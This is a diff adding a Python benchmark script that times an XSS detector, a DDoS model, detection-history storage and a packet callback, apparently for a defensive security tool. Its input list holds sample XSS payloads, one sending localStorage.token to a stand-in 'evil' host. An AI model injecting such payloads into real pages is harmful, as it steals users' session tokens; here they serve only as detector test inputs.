@@ -0,0 +1,279 @@
+#!/usr/bin/env python3
+"""Benchmark the detection hot paths and store the results as JSON
+
+Each benchmark runs in its own process, so its peak RSS is its own, and
+reports throughput and p50/p95/p99 latency per call. Everything runs
+offline: the XSS ML path uses a deterministic stub embedder and detection
+history is written to temporary files, never the real result files.
+
+Usage: python run_benchmarks.py [--only name,...] [--output results.json] [--compare baseline.json]
+
+Without --output, results go to results/<git commit>.json. With
+--compare, any p50 more than REGRESSION_THRESHOLD slower than the
+baseline is reported and the exit status is 1.
+"""
+import os
+import sys
+import json
+import time
+import random
+import resource
+import datetime
+import tempfile
+import subprocess
+import contextlib
+import zlib
+import numpy as np
+
+# Make the scripts importable
+ML_DIR = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+sys.path.insert(0, os.path.join(ML_DIR, 'scripts'))
+
+RESULTS_DIR = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'results')
+
+# Slowdown in p50 latency that counts as a regression (0.2 = 20%)
+REGRESSION_THRESHOLD = 0.2
+
+# Detection history sizes the save and stats benchmarks are run at
+HISTORY_SIZES = [100, 1000, 10000]
+
+# Detections seeded through the real save function before the rest are bulk-written
+SEED_SAVES = 100
+
+XSS_PAYLOADS = [
+    "<script>alert(document.cookie)</script>",
+    "<img src=x onerror=alert(1)>",
+    "javascript:eval('x')",
+    "hello world, just a normal search query",
+    "SELECT name FROM patients WHERE id = 4",
+    "<svg onload=fetch('//evil/'+localStorage.token)>",
+    "John Smith, 42 Wallaby Way, Sydney",
+    "<iframe src=//evil.example>"
+]
+
+class StubEmbedder:
+    """Deterministic stand-in for HuggingFaceEmbedding, so the ML path runs offline"""
+
+    dim = 384
+
+    def get_text_embedding(self, text):
+        rng = np.random.default_rng(zlib.crc32(text.encode()))
+        return (rng.standard_normal(self.dim) * 0.05).tolist()
+
+def measure(function, inputs, count, warmup=10):
+    """Call function on inputs round-robin and summarize per-call latency"""
+    for i in range(warmup):
+        function(inputs[i % len(inputs)])
+    times = np.empty(count)
+    start = time.perf_counter()
+    for i in range(count):
+        call_start = time.perf_counter()
+        function(inputs[i % len(inputs)])
+        times[i] = time.perf_counter() - call_start
+    total = time.perf_counter() - start
+    p50, p95, p99 = np.percentile(times * 1e6, [50, 95, 99])
+    return {
+        "calls": count,
+        "per_second": round(count / total, 1),
+        "p50_us": round(float(p50), 1),
+        "p95_us": round(float(p95), 1),
+        "p99_us": round(float(p99), 1)
+    }
+
+@contextlib.contextmanager
+def quiet():
+    """Discard the scripts' stdout and stderr logging while timing"""
+    with open(os.devnull, 'w') as null, contextlib.redirect_stdout(null), contextlib.redirect_stderr(null):
+        yield
+
+def xss_detections(count):
+    rng = random.Random(42)
+    now = datetime.datetime.now()
+    return [{
+        "attack_type": rng.choice(["reflected", "stored", "dom"]),
+        "source_ip": f"192.168.{rng.randint(0, 3)}.{rng.randint(1, 255)}",
+        "target_endpoint": rng.choice(["/login", "/search", "/patients", "/records"]),
+        "timestamp": (now - datetime.timedelta(seconds=i)).isoformat()
+    } for i in range(count)]
+
+def ddos_detections(count):
+    rng = random.Random(42)
+    now = datetime.datetime.now()
+    return [{
+        "attack_type": rng.choice(["syn_flood", "udp_flood", "http_flood", "slowloris"]),
+        "source_ip": f"10.0.{rng.randint(0, 3)}.{rng.randint(1, 255)}",
+        "target": rng.choice(["HTTP (80)", "HTTPS (443)", "SSH (22)"]),
+        "timestamp": (now - datetime.timedelta(seconds=i)).isoformat()
+    } for i in range(count)]
+
+def seed_history(save, path, detections):
+    """Write a history of len(detections) saves to path without timing each one
+
+    The first SEED_SAVES go through save() so every aggregate is real; an
+    unbounded detections list is then padded to full size in one write.
+    """
+    if os.path.exists(path):
+        os.remove(path)
+    with quiet():
+        for detection in detections[:SEED_SAVES]:
+            save(detection)
+    with open(path, 'r') as f:
+        data = json.load(f)
+    if "detections" in data:
+        data["detections"].extend(detections[SEED_SAVES:])
+    data["totalDetections"] = len(detections)
+    with open(path, 'w') as f:
+        json.dump(data, f, indent=2)
+    return os.path.getsize(path)
+
+def bench_analyze_xss():
+    import xss_analyze
+    results = {"regex": None, "ml": None}
+    with quiet():
+        xss_analyze.MODEL = None
+        results["regex"] = measure(xss_analyze.analyze_xss, XSS_PAYLOADS, 5000)
+
+        artifact = xss_analyze.load_model()
+        if artifact is None:
+            results["ml"] = {"skipped": "no xss_model artifact"}
+        else:
+            xss_analyze.ARTIFACT = artifact
+            xss_analyze.MODEL = artifact.predictor()
+            xss_analyze.EMBED_MODEL = StubEmbedder()
+            results["ml"] = measure(xss_analyze.analyze_xss, XSS_PAYLOADS, 2000)
+            results["ml"]["embedder"] = "stub"
+    return results
+
+def bench_ddos_predict():
+    from ddos_analyze import load_artifact_or_fallback, prepare_features
+    from test_ddos_model import real_traffic_features, training_scale_features, known_attack_features
+    rows = [real_traffic_features, training_scale_features, known_attack_features]
+    with quiet():
+        model = load_artifact_or_fallback().predictor()
+        return {
+            "prepare_features": measure(prepare_features, rows, 20000),
+            "prepare_and_predict": measure(lambda row: model.predict_proba(prepare_features(row)), rows, 2000)
+        }
+
+def bench_history(module_name, save_name, stats_name, path_attr, make_detections, saves=50):
+    import importlib
+    module = importlib.import_module(module_name)
+    save, stats = getattr(module, save_name), getattr(module, stats_name)
+    results = {}
+    with tempfile.TemporaryDirectory() as directory:
+        path = os.path.join(directory, 'history.json')
+        setattr(module, path_attr, path)
+        for size in HISTORY_SIZES:
+            detections = make_detections(size + saves)
+            seed_bytes = seed_history(save, path, detections[:size])
+            with quiet():
+                save_result = measure(save, detections[size:], saves, warmup=0)
+                stats_result = measure(lambda _: stats(), [None], 50, warmup=2)
+            results[str(size)] = {"file_bytes": seed_bytes, "save": save_result, "stats": stats_result}
+    return results
+
+def bench_xss_history():
+    return bench_history("xss_stats", "save_xss_detection", "generate_xss_stats", "XSS_RESULTS_FILE", xss_detections)
+
+def bench_ddos_history():
+    return bench_history("ddos_stats", "save_ddos_detection", "generate_ddos_stats", "DDOS_PERSISTENT_FILE", ddos_detections)
+
+def bench_packet_callback():
+    try:
+        from scapy.all import Ether, IP, TCP
+        import packet_capture
+    except ImportError as e:
+        return {"skipped": f"scapy not available: {e}"}
+    rng = random.Random(42)
+    packets = [
+        Ether() / IP(src=f"10.0.0.{rng.randint(1, 254)}", dst="10.0.0.1") /
+        TCP(sport=rng.randint(1024, 65535), dport=3001, flags=rng.choice(["S", "A", "PA", "FA"]))
+        for _ in range(256)
+    ]
+    with quiet():
+        return {"packet_callback": measure(packet_capture.packet_callback, packets, 5000)}
+
+BENCHMARKS = {
+    "analyze_xss": bench_analyze_xss,
+    "ddos_predict": bench_ddos_predict,
+    "xss_history": bench_xss_history,
+    "ddos_history": bench_ddos_history,
+    "packet_callback": bench_packet_callback
+}
+
+def run_one(name):
+    """Run one benchmark in this process and add its peak RSS"""
+    result = BENCHMARKS[name]()
+    # ru_maxrss is in kilobytes on Linux
+    result["peak_rss_mb"] = round(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024, 1)
+    return result
+
+def run_isolated(name):
+    completed = subprocess.run(
+        [sys.executable, os.path.abspath(__file__), "--run", name],
+        capture_output=True, text=True
+    )
+    if completed.returncode != 0:
+        return {"error": completed.stderr.strip().splitlines()[-1] if completed.stderr.strip() else "failed"}
+    return json.loads(completed.stdout)
+
+def git_commit():
+    try:
+        return subprocess.run(
+            ["git", "rev-parse", "--short", "HEAD"], cwd=ML_DIR, capture_output=True, text=True, check=True
+        ).stdout.strip()
+    except (OSError, subprocess.CalledProcessError):
+        return None
+
+def latencies(results, prefix=""):
+    """Flatten results into {path: p50_us} for every measured call"""
+    found = {}
+    for key, value in results.items():
+        if isinstance(value, dict):
+            if "p50_us" in value:
+                found[prefix + key] = value["p50_us"]
+            else:
+                found.update(latencies(value, f"{prefix}{key}."))
+    return found
+
+def compare(current, baseline):
+    """Every p50 that got more than REGRESSION_THRESHOLD slower than the baseline"""
+    before = latencies(baseline["benchmarks"])
+    after = latencies(current["benchmarks"])
+    regressions = []
+    for path, p50 in after.items():
+        if path in before and before[path] > 0 and p50 > before[path] * (1 + REGRESSION_THRESHOLD):
+            regressions.append({"benchmark": path, "baseline_p50_us": before[path], "p50_us": p50,
+                                "slowdown": round(p50 / before[path], 2)})
+    return regressions
+
+if __name__ == "__main__":
+    args = sys.argv[1:]
+    if "--run" in args:
+        print(json.dumps(run_one(args[args.index("--run") + 1])))
+        sys.exit(0)
+
+    names = args[args.index("--only") + 1].split(",") if "--only" in args else list(BENCHMARKS)
+    commit = git_commit()
+    results = {
+        "commit": commit,
+        "created": datetime.datetime.now().isoformat(),
+        "python": sys.version.split()[0],
+        "benchmarks": {}
+    }
+    for name in names:
+        sys.stderr.write(f"Running {name}...\n")
+        results["benchmarks"][name] = run_isolated(name)
+
+    output = args[args.index("--output") + 1] if "--output" in args else os.path.join(RESULTS_DIR, f"{commit or 'latest'}.json")
+    os.makedirs(os.path.dirname(os.path.abspath(output)), exist_ok=True)
+    with open(output, 'w') as f:
+        json.dump(results, f, indent=2)
+    sys.stderr.write(f"Wrote {output}\n")
+
+    if "--compare" in args:
+        with open(args[args.index("--compare") + 1], 'r') as f:
+            results["regressions"] = compare(results, json.load(f))
+    print(json.dumps(results, indent=2))
+    if results.get("regressions"):
+        sys.exit(1)